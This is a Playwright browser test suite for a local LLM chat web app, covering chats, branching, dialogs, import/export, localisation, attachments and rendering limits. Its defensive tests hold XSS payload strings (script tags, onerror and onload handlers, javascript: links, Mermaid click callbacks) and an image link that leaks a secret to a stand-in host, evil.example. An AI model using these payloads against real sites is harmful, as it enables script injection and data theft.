// Browser tests: Debian's chromium, driven headless by playwright-core,
// against a real `lokal serve` with real models (stories260K answers fast;
// llama-2-tiny-random never stops on its own, which the stop test needs).
// Run by `make web-test`; screenshots go to $WEB_TEST_OUT (build/web-test).
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { chromium } from 'playwright-core';
import { makePdf } from './make-pdf.mjs';
import { createModel, makeLokal, paths } from './lokal-server.mjs';

const shared = paths.shared;
const out = process.env.WEB_TEST_OUT ?? join(paths.repo, 'build/web-test');
const chromiumPath = process.env.CHROMIUM ?? '/usr/bin/chromium';
mkdirSync(out, { recursive: true });

let lokal, base, browser, work;

async function call(method, path, body, raw) {
  const r = await fetch(base + path, {
    method,
    headers: raw ? {} : { 'Content-Type': 'application/json' },
    body: raw ?? (body === undefined ? undefined : JSON.stringify(body)),
  });
  const text = await r.text();
  if (!r.ok) throw new Error(`${method} ${path}: ${r.status} ${text}`);
  return text ? JSON.parse(text.split('\n').filter(Boolean).pop()) : null;
}

before(async () => {
  lokal = await (await makeLokal({ prefix: 'lokal-web-' })).start();
  ({ base, work } = lokal);
  await createModel(base, 'stories', 'stories260K.gguf');
  await createModel(base, 'tiny-random', 'llama-2-tiny-random.gguf');
  browser = await chromium.launch({ executablePath: chromiumPath, headless: true, args: ['--no-sandbox'] });
});

after(async () => {
  await browser?.close();
  if (lokal) writeFileSync(join(out, 'server.log'), lokal.log());
  await lokal?.stop();
});

// A page that records what must never happen: the browser's own dialogs (the
// UI has in-page ones), requests to any other host, CSP violations, uncaught errors.
async function openPage({ locale = 'en-US' } = {}) {
  const context = await browser.newContext({ locale, viewport: { width: 1200, height: 800 }, acceptDownloads: true });
  // Generous: the suite shares two cores with the rest of `make test`.
  context.setDefaultTimeout(60000);
  // Long tasks (main thread busy over 50 ms), for the report of a failed wait.
  await context.addInitScript(() => {
    window.__longTasks = [];
    new PerformanceObserver((l) => l.getEntries().forEach((e) => window.__longTasks.push(e.duration))).observe({ type: 'longtask' });
  });
  const page = await context.newPage();
  const seen = { dialogs: [], foreign: [], errors: [], csp: [] };
  page.on('dialog', async (d) => {
    seen.dialogs.push(d.message());
    await d.dismiss();
  });
  page.on('pageerror', (e) => seen.errors.push(String(e)));
  page.on('console', (m) => m.text().includes('Content Security Policy') && seen.csp.push(m.text()));
  await context.route('**/*', (route) => {
    const url = new URL(route.request().url());
    if (url.origin !== base && !['data:', 'blob:'].includes(url.protocol)) {
      seen.foreign.push(url.href);
      return route.abort();
    }
    return route.continue();
  });
  page.seen = seen;
  return page;
}

function clean(page) {
  assert.deepEqual(page.seen.dialogs, [], 'no browser dialog');
  assert.deepEqual(page.seen.foreign, [], 'no request to another host');
  assert.deepEqual(page.seen.errors, [], 'no page error');
}

async function chooseModel(page, name) {
  const full = name.includes(':') ? name : `${name}:latest`; // /api/tags names carry the tag
  await page.waitForSelector(`#model option[value="${full}"]`, { state: 'attached' });
  await page.selectOption('#model', full);
}

async function send(page, text) {
  await page.fill('#prompt', text);
  await page.press('#prompt', 'Enter');
}

const answers = (page) => page.locator('.msg.assistant');
// Waits for `fn` in the page; when it does not come true, says what the page
// showed and how busy its main thread was (a screenshot, the messages' HTML,
// the long tasks). The time limit is kept here too: a page whose main thread
// never returns to its event loop cannot even run Playwright's own timeout.
async function within(promise, ms, fallback) {
  let timer;
  const late = new Promise((ok) => (timer = setTimeout(() => ok(fallback), ms)));
  try {
    return await Promise.race([promise, late]);
  } finally {
    clearTimeout(timer);
  }
}
async function waitOrReport(page, name, fn, arg, timeout = 60000) {
  const stuck = Symbol('stuck');
  const r = await within(page.waitForFunction(fn, arg, { timeout }).catch((e) => e), timeout + 5000, stuck);
  if (!(r instanceof Error) && r !== stuck) return;
  await within(shot(page, `failure-${name}`), 5000);
  const state = await within(page.evaluate(() => ({
    status: [...document.querySelectorAll('.msg.assistant')].map((a) => a.dataset.status),
    html: document.querySelector('.messages')?.outerHTML.slice(0, 3000),
    longTasks: window.__longTasks?.length,
    longTaskMs: Math.round((window.__longTasks ?? []).reduce((a, b) => a + b, 0)),
  })).catch((e) => String(e)), 5000, 'the page did not answer within 5 s: its main thread is busy');
  const why = r === stuck ? `page stuck: no answer within ${timeout + 5000} ms` : r.message;
  throw new Error(`waiting for ${name}: ${why}\n${JSON.stringify(page.seen)}\n${JSON.stringify(state)}`);
}

async function waitDone(page, n) {
  await waitOrReport(page, 'done', (n) => {
    const a = document.querySelectorAll('.msg.assistant');
    return a.length === n && a[n - 1].dataset.status === 'done';
  }, n);
}

async function shot(page, name) {
  await page.screenshot({ path: join(out, `${name}.png`), fullPage: false });
}

test('GET / keeps the exact text for API clients and serves the UI to browsers', async () => {
  const plain = await fetch(base + '/');
  assert.equal(await plain.text(), 'Ollama is running');
  const page = await openPage();
  const r = await page.goto(base + '/');
  const h = r.headers();
  assert.match(h['content-security-policy'], /default-src 'self'/);
  assert.match(h['content-security-policy'], /script-src 'self';/);
  assert.match(h['content-security-policy'], /frame-ancestors 'none'/);
  assert.equal(h['x-content-type-options'], 'nosniff');
  assert.equal(h['referrer-policy'], 'no-referrer');
  await page.waitForSelector('#new-chat');
  assert.equal(await page.textContent('#new-chat'), 'New chat');
  clean(page);
  await page.context().close();
});

// Every script the embedded app can load, found from the page: the main chunk
// names the lazy chunks (Vite's preload lists), and they name theirs.
async function scriptsOfTheApp() {
  const seen = new Map();
  const queue = [...(await (await fetch(base + '/', { headers: { Accept: 'text/html' } })).text())
    .matchAll(/assets\/[\w.-]+\.js/g)].map((m) => m[0]);
  while (queue.length) {
    const path = queue.shift();
    if (seen.has(path)) continue;
    const r = await fetch(`${base}/${path}`);
    assert.equal(r.status, 200, path);
    const text = await r.text();
    seen.set(path, text);
    for (const m of text.matchAll(/assets\/[\w.-]+\.js|\.\/[\w.-]+\.js/g)) queue.push(m[0].replace(/^\.\//, 'assets/'));
  }
  return seen;
}

test("one copy of KaTeX: Mermaid's lazy chunks share the main one", async () => {
  const scripts = await scriptsOfTheApp();
  assert.ok([...scripts.keys()].some((p) => /mermaid\.core/.test(p)), 'the crawl reaches Mermaid');
  // A message only KaTeX's parser has, once per copy of KaTeX.
  const withKatex = [...scripts].filter(([, text]) => text.includes('KaTeX parse error')).map(([p]) => p);
  assert.equal(withKatex.length, 1, `KaTeX in ${withKatex.join(', ')}`);
  assert.match(withKatex[0], /assets\/index-/);
});

let chatUrl, firstAnswer;

test('send a message and see the streamed answer with its stats', async () => {
  const page = await openPage();
  await page.goto(base + '/');
  await chooseModel(page, 'stories');
  await page.waitForSelector('.cap-completion');
  // stories260K has no end token for chat: keep answers short.
  await page.click('#chat-settings');
  await page.fill('input[name="num_predict"]', '40');
  await page.fill('#system-prompt', 'You tell stories.');
  await page.click('#save-settings');
  await send(page, 'Once upon a time');
  await waitDone(page, 1);
  firstAnswer = (await answers(page).first().locator('.body').textContent()).trim();
  assert.ok(firstAnswer.length > 0, 'the answer has text');
  assert.match(await answers(page).first().locator('.stats').textContent(), /tokens\/s/);
  await page.waitForSelector('.gauge');
  await page.waitForFunction(() => /#\/chat\/\d+$/.test(location.hash));
  chatUrl = page.url();
  const stored = await call('GET', `/lokal/api/chats/${chatUrl.split('/').pop()}`);
  assert.deepEqual(stored.settings, { system: 'You tell stories.', options: { num_predict: 40 }, model: 'stories:latest' });
  assert.ok(stored.messages[1].stats.eval_count <= 40);
  await page.waitForSelector('.chat-item.active');
  await shot(page, 'chat');
  clean(page);
  await page.context().close();
});

test('reload finds the chat; regenerate and switch branches', async () => {
  const page = await openPage();
  await page.goto(chatUrl);
  await page.waitForSelector('.msg.assistant[data-status="done"]');
  assert.equal((await answers(page).first().locator('.body').textContent()).trim(), firstAnswer);
  assert.equal(await page.locator('.msg.user .body').textContent(), 'Once upon a time');

  await page.click('.msg.assistant .regenerate');
  await page.waitForFunction(() => document.querySelector('.msg.assistant .branch-pos')?.textContent === '2 / 2');
  await waitDone(page, 1);
  await page.click('.msg.assistant .prev-branch');
  await page.waitForFunction(() => document.querySelector('.msg.assistant .branch-pos')?.textContent === '1 / 2');
  assert.equal((await answers(page).first().locator('.body').textContent()).trim(), firstAnswer);

  // The branch shown is stored: a reload shows the same one.
  await page.reload();
  await page.waitForSelector('.msg.assistant .branch-pos');
  assert.equal(await page.textContent('.msg.assistant .branch-pos'), '1 / 2');
  clean(page);
  await page.context().close();
});

test('edit a question: a new branch with its own answer', async () => {
  const page = await openPage();
  await page.goto(chatUrl);
  await page.click('.msg.user .edit-msg');
  await page.fill('.msg.user textarea', 'A dragon lived');
  await page.click('.msg.user .save-edit');
  await page.waitForFunction(() => document.querySelector('.msg.user .branch-pos')?.textContent === '2 / 2');
  await waitDone(page, 1);
  assert.equal(await page.textContent('.msg.user .body'), 'A dragon lived');
  await page.click('.msg.user .prev-branch');
  await page.waitForFunction(() => document.querySelector('.msg.user .body')?.textContent === 'Once upon a time');
  // Back on the first question: its newest answer, with both answers to switch between.
  assert.equal(await page.textContent('.msg.assistant .branch-pos'), '2 / 2');
  clean(page);
  await page.context().close();
});

test('stop keeps the partial answer, also after a reload', async () => {
  const page = await openPage();
  await page.goto(base + '/#/');
  await chooseModel(page, 'tiny-random');
  await page.click('#chat-settings');
  await page.fill('input[name="num_predict"]', '100000');
  await page.fill('input[name="seed"]', '42'); // the same endless answer every run
  await page.click('#save-settings');
  await send(page, 'go on forever');
  await page.waitForSelector('#stop');
  await waitOrReport(page, 'stop', () => (document.querySelector('.msg.assistant .body')?.textContent ?? '').length > 20);
  await page.keyboard.press('Escape');
  await page.waitForSelector('.msg.assistant[data-status="stopped"]');
  const partial = await page.textContent('.msg.assistant .body');
  await page.waitForSelector('#send');
  await page.reload();
  await page.waitForSelector('.msg.assistant[data-status="stopped"]');
  assert.equal(await page.textContent('.msg.assistant .body'), partial);
  assert.ok(await page.isVisible('text=Stopped'));
  clean(page);
  await page.context().close();
});

// The in-page dialog (Dialog.tsx) is open, focused and modal.
async function dialogOpen(page) {
  await page.waitForSelector('dialog.modal[open]');
  await page.waitForFunction(() => document.querySelector('dialog.modal')?.contains(document.activeElement));
}

test('search, rename, pin and delete in the sidebar, with in-page dialogs', async () => {
  const page = await openPage();
  await page.goto(base + '/');
  await page.fill('#chat-search', 'dragon');
  await page.waitForFunction(() => document.querySelectorAll('.chat-item').length === 1);
  const item = page.locator('.chat-item').first();
  await item.locator('.more').click();
  await item.locator('text=Rename').click();
  // Keyboard only: the title is selected, typing replaces it, Enter saves.
  await dialogOpen(page);
  assert.equal(await page.evaluate(() => document.activeElement.id), 'modal-input');
  assert.equal(await page.inputValue('#modal-input'), 'Once upon a time');
  await page.keyboard.type('Dragons');
  await shot(page, 'rename-dialog');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => document.querySelector('.chat-item .chat-link')?.textContent === 'Dragons');
  assert.equal(await page.locator('dialog.modal').count(), 0, 'the dialog is gone');
  await item.locator('.more').click();
  await item.locator('text=Pin').click();
  await page.fill('#chat-search', '');
  await page.waitForSelector('text=Pinned');
  await shot(page, 'sidebar');

  await page.fill('#chat-search', 'go on forever');
  await page.waitForFunction(() => document.querySelectorAll('.chat-item').length === 1);
  await page.locator('.chat-item .more').click();
  await page.locator('.chat-item >> text=Delete').click();
  await dialogOpen(page);
  assert.equal(await page.textContent('#modal-message'), 'Delete this chat? This cannot be undone.');
  // Focus stays in the modal dialog: Tab cycles through its two buttons.
  for (let i = 0; i < 4; i++) {
    await page.keyboard.press('Tab');
    assert.ok(await page.evaluate(() => ['modal-ok', 'modal-cancel'].includes(document.activeElement?.id)), 'focus is trapped');
  }
  // Esc cancels: the chat stays.
  await page.keyboard.press('Escape');
  await page.waitForSelector('dialog.modal', { state: 'detached' });
  assert.equal(await page.locator('.chat-item').count(), 1);
  await page.locator('.chat-item .more').click();
  await page.locator('.chat-item >> text=Delete').click();
  await dialogOpen(page);
  assert.equal(await page.evaluate(() => document.activeElement.id), 'modal-ok', 'the confirm button has the focus');
  await page.keyboard.press('Enter');
  await page.waitForSelector('text=No chats yet');
  const all = await call('GET', '/lokal/api/chats');
  assert.equal(all.total, 1);
  assert.equal(all.chats[0].title, 'Dragons');
  clean(page);
  await page.context().close();
});

test('export a chat and import it again', async () => {
  const page = await openPage();
  await page.goto(base + '/');
  await page.locator('.chat-item .more').first().click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('text=Export as JSON')]);
  const file = join(work, 'export.json');
  await download.saveAs(file);
  const doc = JSON.parse(readFileSync(file, 'utf8'));
  assert.equal(doc.lokal_chats, 1);
  assert.equal(doc.chats[0].title, 'Dragons');

  await page.setInputFiles('.sidebar input[type=file]', file);
  await page.waitForSelector('text=Imported 1 chat(s)');
  await page.waitForFunction(() => document.querySelectorAll('.chat-item').length === 2);
  const again = await call('GET', '/lokal/api/export');
  const [a, b] = again.chats;
  assert.equal(a.messages.length, b.messages.length);
  assert.deepEqual(a.messages.map((m) => m.content), b.messages.map((m) => m.content));
  clean(page);
  await page.context().close();
});

test('the UI speaks German when the browser does, and can switch', async () => {
  const page = await openPage({ locale: 'de-DE' });
  await page.goto(base + '/');
  await page.waitForSelector('#new-chat');
  assert.equal(await page.textContent('#new-chat'), 'Neuer Chat');
  assert.equal(await page.getAttribute('#chat-search', 'placeholder'), 'Chats durchsuchen');
  assert.equal(await page.evaluate(() => document.documentElement.lang), 'de');
  await shot(page, 'german');
  await page.locator('.chat-item .more').first().click();
  await page.locator('.chat-item >> text=Löschen').first().click();
  await dialogOpen(page);
  assert.equal(await page.textContent('#modal-message'), 'Diesen Chat löschen? Das lässt sich nicht rückgängig machen.');
  assert.deepEqual([await page.textContent('#modal-cancel'), await page.textContent('#modal-ok')], ['Abbrechen', 'Löschen']);
  await page.click('#modal-cancel');
  await page.waitForSelector('dialog.modal', { state: 'detached' });
  await page.selectOption('#lang', 'en');
  assert.equal(await page.textContent('#new-chat'), 'New chat');
  await page.selectOption('#theme', 'dark');
  // The theme is applied by an effect after the render: wait for it instead of racing it.
  await page.waitForFunction(() => document.documentElement.dataset.theme === 'dark', null, { timeout: 5000 }).catch(() => {});
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), 'dark');
  await page.goto(chatUrl);
  await page.waitForSelector('.msg.assistant');
  await shot(page, 'chat-dark');
  clean(page);
  await page.context().close();
});

const XSS = [
  '<script>alert("xss-script")</script>',
  '<img src=x onerror=alert("xss-img")>',
  '[click me](javascript:alert("xss-link"))',
  '![leak](https://evil.example/collect?secret=1)',
  '<svg onload=alert("xss-svg")></svg>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '$\\href{javascript:alert(1)}{math}$',
].join('\n\n');

async function assertInert(page) {
  const report = await page.evaluate(() => {
    const root = document.querySelector('.messages');
    const bad = [];
    for (const el of root.querySelectorAll('*')) {
      // SVG only as a sanitised Mermaid diagram, and even there no links or embedded HTML.
      const diagram = el.closest('.mermaid-diagram');
      if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED'].includes(el.tagName) || (el.tagName.toLowerCase() === 'svg' && !diagram)) bad.push(el.tagName);
      if (diagram && ['foreignobject', 'image', 'use', 'script'].includes(el.tagName.toLowerCase())) bad.push('diagram ' + el.tagName);
      for (const a of el.attributes) {
        if (a.name.startsWith('on') || /^\s*javascript:/i.test(a.value)) bad.push(`${el.tagName}[${a.name}]`);
        if (diagram && /href$/i.test(a.name)) bad.push(`diagram ${el.tagName}[${a.name}]`);
      }
      if (el.tagName === 'IMG' && el.getAttribute('src')) bad.push('IMG[src=' + el.getAttribute('src') + ']');
    }
    return bad;
  });
  assert.deepEqual(report, [], 'no executable or leaking element');
  // Give any stray handler a moment to fire.
  await page.waitForTimeout(300);
  clean(page);
}

// Replaces the model's answer with `text`, streamed in pieces of `size` characters.
async function fakeAnswer(page, text, size) {
  const line = (content, done, extra = {}) =>
    JSON.stringify({ model: 'stories', message: { role: 'assistant', content }, done, ...extra }) + '\n';
  const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g'));
  await page.route('**/api/chat', (route) =>
    route.fulfill({
      status: 200,
      contentType: 'application/x-ndjson',
      body: pieces.map((c) => line(c, false)).join('') + line('', true, { eval_count: 7, eval_duration: 1e6 }),
    }),
  );
}

test('XSS payloads in an imported chat stay inert', async () => {
  const doc = {
    lokal_chats: 1,
    chats: [{
      title: '<img src=x onerror=alert("title")>',
      current_message_id: 2,
      messages: [
        { id: 1, role: 'user', content: XSS },
        { id: 2, parent_id: 1, role: 'assistant', content: XSS, thinking: XSS },
      ],
    }],
  };
  const { ids } = await call('POST', '/lokal/api/import', doc);
  const page = await openPage();
  await page.goto(`${base}/#/chat/${ids[0]}`);
  await page.waitForSelector('.msg.assistant .body');
  await page.click('.msg.assistant .thinking summary');
  assert.ok((await page.textContent('.msg.user .body')).includes('<script>'), 'questions are shown as text');
  // markdown-it refuses the javascript: link, so it stays text; were it a link, clicking must do nothing.
  const link = page.locator('.msg.assistant a:has-text("click me")');
  if (await link.count()) await link.first().click();
  await assertInert(page);
  await shot(page, 'xss-imported');
  await page.context().close();
});

test('XSS payloads in a streamed answer stay inert', async () => {
  const page = await openPage();
  // The model's stream is replaced with the payloads: same rendering path.
  await fakeAnswer(page, XSS, 40);
  await page.goto(base + '/#/');
  await chooseModel(page, 'stories');
  await send(page, 'say something nasty');
  await waitDone(page, 1);
  await assertInert(page);
  await page.context().close();
});

// A long Markdown answer arriving all at once (as a backlog does on a busy
// machine): the page shows it in a few coalesced updates, re-rendering only
// the last unfinished block, instead of rendering all of it once per token.
test('a fast stream of a long answer is shown in a few renders, not one per token', async () => {
  const part = (i) => [
    `## Part ${i}`, '', `Some *text* with \`code\` and $x^${i}$, then a list:`, '', '- one', '- two', '',
    '```js', `const part = ${i};`, '', 'console.log(part);', '```', '', '| a | b |', '|---|---|', `| ${i} | ${i * 2} |`, '', '',
  ].join('\n');
  const text = Array.from({ length: 60 }, (_, i) => part(i)).join('');
  const pieces = Math.ceil(text.length / 4);
  const page = await openPage();
  await fakeAnswer(page, text, 4);
  await page.goto(base + '/#/');
  await chooseModel(page, 'stories');
  await page.evaluate(() => {
    window.__renders = 0; // mutation batches that touched the answer: one per render
    new MutationObserver((rs) => rs.some((r) => r.target.closest?.('.msg.assistant .body')) && window.__renders++)
      .observe(document.querySelector('.messages'), { childList: true, subtree: true, characterData: true });
  });
  await send(page, 'write a long answer');
  await waitDone(page, 1);
  const renders = await page.evaluate(() => window.__renders);
  assert.ok(renders < pieces / 10, `${renders} renders of the answer for ${pieces} pieces`);
  assert.equal(await page.locator('.msg.assistant .body h2').count(), 60);
  assert.equal(await page.locator('.msg.assistant .body .katex').count(), 60);
  assert.equal(await page.locator('.msg.assistant .body table').count(), 60);
  assert.match(await page.textContent('.msg.assistant .body'), /const part = 59;/);
  await shot(page, 'long-answer');
  clean(page);
  await page.context().close();
});

// Mermaid with a label, a click callback and a javascript: link as payloads;
// strict mode and the SVG sanitiser must leave a diagram and nothing live.
const MERMAID_XSS = [
  'Here is the flow:',
  '```mermaid',
  'graph TD',
  '  A["<img src=x onerror=alert(\'xss-mermaid-label\')>"] --> B["<script>alert(\'xss-mermaid-script\')</script>"]',
  '  B --> C[Done]',
  '  click A call alert("xss-mermaid-callback")',
  '  click B href "javascript:alert(\'xss-mermaid-href\')"',
  '  click C "javascript:alert(\'xss-mermaid-link\')"',
  '```',
  '',
  'And a broken one:',
  '```mermaid',
  'this is not a diagram -->',
  '```',
].join('\n');

test('Mermaid diagrams render once complete; payloads in them stay inert', async () => {
  const page = await openPage();
  await fakeAnswer(page, MERMAID_XSS, 12);
  await page.goto(base + '/#/');
  await chooseModel(page, 'stories');
  await send(page, 'draw the flow');
  await waitDone(page, 1);
  await page.waitForSelector('.msg.assistant .mermaid-diagram svg');
  const shape = await page.evaluate(() => ({
    diagrams: document.querySelectorAll('.mermaid-diagram').length,
    labels: document.querySelector('.mermaid-diagram svg').textContent,
    nodes: document.querySelectorAll('.mermaid-diagram g.node').length,
    hiddenSources: document.querySelectorAll('.code.mermaid-source.drawn').length,
    brokenShown: [...document.querySelectorAll('.code.mermaid-source:not(.drawn) pre')].map((p) => p.textContent),
    mermaidChunkInMain: [...document.scripts].some((s) => /mermaid/i.test(s.src)),
  }));
  assert.equal(shape.diagrams, 1, 'one diagram, drawn once');
  assert.equal(shape.hiddenSources, 1);
  assert.match(shape.labels, /Done/);
  assert.equal(shape.nodes, 3, 'linked nodes survive the sanitiser (their <a> keeps, its href goes)');
  assert.deepEqual(shape.brokenShown, ['this is not a diagram -->\n'], 'a syntax error keeps the code');
  assert.equal(shape.mermaidChunkInMain, false, 'Mermaid is a lazily loaded chunk');
  for (const node of await page.locator('.mermaid-diagram g.node').all()) await node.click({ force: true });
  await shot(page, 'mermaid');
  await assertInert(page);
  // Reopened from the server (not streamed): drawn as well.
  await page.reload();
  await page.waitForSelector('.msg.assistant .mermaid-diagram svg');
  await assertInert(page);
  await page.context().close();
});

test('models page lists installed and loaded models', async () => {
  const page = await openPage();
  await page.goto(base + '/#/models');
  await page.waitForSelector('tr[data-model="stories:latest"]');
  await page.waitForSelector('text=Loaded models');
  await shot(page, 'models');
  clean(page);
  await page.context().close();
});

test('attach a text file: it goes into the prompt, and the cut is shown', async () => {
  const page = await openPage();
  const file = join(work, 'big.txt');
  writeFileSync(file, 'lorem ipsum '.repeat(2000));
  let sent = '';
  page.on('request', (r) => r.url().endsWith('/api/chat') && (sent = r.postData() ?? ''));
  await page.goto(base + '/#/');
  await chooseModel(page, 'stories');
  await page.click('#chat-settings');
  await page.fill('input[name="num_predict"]', '8');
  await page.click('#save-settings');
  await page.setInputFiles('#attach-input', file);
  await page.waitForSelector('.composer .chip .warn');
  assert.match(await page.textContent('.composer .chip .warn'), /first 16000 of 24000 characters/);
  await send(page, 'Summarise the file');
  await waitDone(page, 1);
  assert.ok(await page.isVisible('.msg.user .chip[data-attachment="big.txt"]'));
  const body = JSON.parse(sent);
  const question = body.messages.find((m) => m.role === 'user').content;
  assert.match(question, /^Summarise the file\n\n--- big\.txt \(first 16000 of 24000 characters\) ---\n```\nlorem ipsum/);
  await shot(page, 'attachment');
  clean(page);
  await page.context().close();
});

test('attach a PDF: its text is extracted in the browser and goes into the prompt', async () => {
  const page = await openPage();
  const file = join(work, 'report.pdf');
  writeFileSync(file, makePdf(['Quarterly report\nRevenue grew by 12 percent', 'Page two: the zebra code is 4711']));
  let sent = '';
  page.on('request', (r) => r.url().endsWith('/api/chat') && (sent = r.postData() ?? ''));
  await page.goto(base + '/#/');
  await chooseModel(page, 'stories');
  await page.click('#chat-settings');
  await page.fill('input[name="num_predict"]', '4');
  await page.click('#save-settings');
  await page.setInputFiles('#attach-input', file);
  await page.waitForSelector('.composer .chip[data-attachment="report.pdf"]');
  assert.equal(await page.locator('.composer .chip .warn').count(), 0, 'a short PDF is not cut');
  await send(page, 'What is the zebra code?');
  await waitDone(page, 1);
  const question = JSON.parse(sent).messages.find((m) => m.role === 'user').content;
  assert.equal(
    question,
    'What is the zebra code?\n\n--- report.pdf ---\n```\nQuarterly report\nRevenue grew by 12 percent\n\nPage two: the zebra code is 4711\n```',
  );
  // The worker came from lokal itself (the CSP's worker-src 'self'), nothing was blocked.
  assert.deepEqual(page.seen.csp, [], 'no CSP violation');
  clean(page);
  await page.context().close();
});

test('create a model from an uploaded GGUF', async () => {
  const page = await openPage();
  await page.goto(base + '/#/models');
  await page.setInputFiles('#gguf-file', join(shared, 'models', 'stories260K.gguf'));
  await page.fill('#create-name', 'uploaded');
  await page.fill('#create-system', 'Be brief.');
  await page.click('#create-model');
  await page.waitForSelector('text=Created uploaded', { timeout: 60000 });
  await page.waitForSelector('tr[data-model="uploaded:latest"]');
  const shown = await call('POST', '/api/show', { model: 'uploaded' });
  assert.equal(shown.system, 'Be brief.');
  // Delete it again, confirmed in the in-page dialog.
  await page.click('tr[data-model="uploaded:latest"] .delete-model');
  await dialogOpen(page);
  assert.equal(await page.textContent('#modal-message'), 'Delete model uploaded:latest?');
  await page.click('#modal-ok');
  await page.waitForSelector('tr[data-model="uploaded:latest"]', { state: 'detached' });
  assert.ok(!(await call('GET', '/api/tags')).models.some((m) => m.name === 'uploaded:latest'));
  clean(page);
  await page.context().close();
});

test('phone-sized layout hides the sidebar behind a menu', async () => {
  const page = await openPage();
  await page.setViewportSize({ width: 390, height: 800 });
  await page.goto(chatUrl);
  await page.waitForSelector('.msg.assistant');
  assert.equal(await page.isVisible('.menu-button'), true);
  await page.click('.menu-button');
  await page.waitForSelector('.menu-open');
  await shot(page, 'phone-menu');
  clean(page);
  await page.context().close();
});

// Last: it fills the chat list. A 600-message chat opens with only its latest
// messages in the DOM; 400 more chats keep the list's DOM small and all reachable.
test('long chats and many chats: bounded DOM, everything reachable', async () => {
  const messages = Array.from({ length: 600 }, (_, i) => ({
    id: i + 1,
    ...(i ? { parent_id: i } : {}),
    role: i % 2 ? 'assistant' : 'user',
    content: i % 2 ? `Answer **${i}** with \`code\` and $x^{${i}}$` : `Question ${i}`,
  }));
  const long = await call('POST', '/lokal/api/import', { lokal_chats: 1, chats: [{ title: 'Long chat', current_message_id: 600, messages }] });
  const many = Array.from({ length: 400 }, (_, i) => ({ title: `Bulk ${String(i).padStart(3, '0')}`, folder: i === 0 ? 'deep' : i % 2 ? 'odd' : 'even', messages: [] }));
  const bulk = await call('POST', '/lokal/api/import', { lokal_chats: 1, chats: many });
  try {
    const page = await openPage();
    await page.goto(`${base}/#/chat/${long.ids[0]}`);
    await page.waitForSelector('.msg.assistant:has-text("Answer 599")');
    const count = () => page.locator('.messages .msg').count();
    const opened = await count();
    assert.ok(opened > 0 && opened <= 40, `only the latest messages are rendered (${opened})`);
    assert.equal(await page.locator('.messages .katex').count(), opened / 2, 'and only their Markdown');
    // Scrolling to either end of what is mounted mounts a page more there and
    // drops pages far off at the other end: all 600 messages are reachable,
    // the DOM stays bounded, and the message in view stays where it was.
    const scroller = page.locator('.messages');
    const scrollTo = (edge) => scroller.evaluate((el, edge) => {
      el.scrollTop = edge === 'top' ? 0 : el.scrollHeight;
      const top = el.getBoundingClientRect().top;
      const msgs = [...el.querySelectorAll('[data-message-id]')];
      const inView = msgs.find((m) => m.getBoundingClientRect().bottom > top);
      return { id: inView.dataset.messageId, top: inView.getBoundingClientRect().top - top,
        first: msgs[0].dataset.messageId, last: msgs.at(-1).dataset.messageId,
        more: !!el.querySelector(edge === 'top' ? '.earlier' : '.later') };
    }, edge);
    const placeOf = (id) => scroller.evaluate((el, id) =>
      el.querySelector(`[data-message-id="${id}"]`).getBoundingClientRect().top - el.getBoundingClientRect().top, id);
    const mounted = async () => ({
      msgs: await count(),
      katex: await page.locator('.messages .katex').count(),
      texts: await page.locator('.messages .msg .body').allTextContents(),
    });
    let loads = 0;
    for (const edge of ['top', 'bottom']) {
      for (let step = 0; step < 40; step++) {
        const before = await scrollTo(edge);
        if (!before.more) break;
        await page.waitForFunction(([edge, old]) => {
          const msgs = document.querySelectorAll('.messages [data-message-id]');
          return (edge === 'top' ? msgs[0] : msgs[msgs.length - 1])?.dataset.messageId !== old;
        }, [edge, before[edge === 'top' ? 'first' : 'last']]);
        loads++;
        const m = await mounted();
        assert.ok(m.msgs <= 90, `a bounded window (${m.msgs} messages mounted)`);
        assert.ok(m.katex <= m.msgs / 2 + 1, 'and only their Markdown rendered');
        const moved = Math.abs((await placeOf(before.id)) - before.top);
        assert.ok(moved <= 2, `the message in view stays put (moved ${moved}px, ${edge})`);
      }
      const m = await mounted();
      if (edge === 'top') assert.ok(m.texts.some((t) => t.trim() === 'Question 0'), 'the first message is reachable');
      else assert.ok(m.texts.some((t) => t.includes('Answer 599')), 'and the last again');
    }
    assert.ok(loads >= 30, `the window moved a page at a time (${loads} loads)`);

    // The list: paged from the server, windowed in the DOM.
    const items = () => page.locator('.chat-list .chat-item').count();
    await page.waitForSelector('.chat-item:has-text("Bulk 399")');
    assert.ok((await items()) < 80, `the chat list renders only the rows in view (${await items()})`);
    // The folder filter offers every folder at once (from the server), also that
    // of the oldest chat, which is on a page of the list not loaded yet.
    await page.waitForSelector('#folder-filter option[value="deep"]', { state: 'attached', timeout: 15000 });
    assert.equal(await page.textContent('#folder-filter option[value="deep"]'), 'deep (1)');
    assert.equal(await page.textContent('#folder-filter option[value="odd"]'), 'odd (200)');
    for (let i = 0; i < 60 && !(await page.locator('.chat-item:has-text("Bulk 000")').count()); i++) {
      await page.locator('.chat-list').evaluate((el) => (el.scrollTop = el.scrollHeight));
      await page.waitForTimeout(100);
    }
    assert.ok(await page.locator('.chat-item:has-text("Bulk 000")').count(), 'the oldest chat is reachable');
    assert.ok((await items()) < 80, 'still few rows in the DOM');
    // Filter by folder: the server does it, the list shows only that folder.
    await page.selectOption('#folder-filter', 'odd');
    await page.waitForFunction(() => !document.querySelector('.chat-item a[title="Bulk 398"]'));
    await page.waitForSelector('.chat-item a[title="Bulk 399"]');
    assert.deepEqual(
      await page.locator('.chat-item .folder').evaluateAll((els) => [...new Set(els.map((e) => e.textContent))]),
      ['odd / '],
    );
    await shot(page, 'many-chats');
    clean(page);
    await page.context().close();
  } finally {
    for (const id of [...long.ids, ...bulk.ids]) await call('DELETE', `/lokal/api/chats/${id}`);
  }
  writeFileSync(join(out, 'done.txt'), 'ok\n');
});
